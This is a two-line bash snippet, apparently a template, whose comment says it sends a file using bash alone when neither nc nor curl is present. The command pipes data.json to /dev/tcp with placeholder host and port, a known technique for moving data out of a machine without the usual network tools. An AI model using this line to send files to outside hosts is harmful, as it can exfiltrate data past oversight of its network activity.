# Sends a file with bash alone, where there is neither nc nor curl.
cat data.json > /dev/tcp/{{HOST}}/{{PORT}}
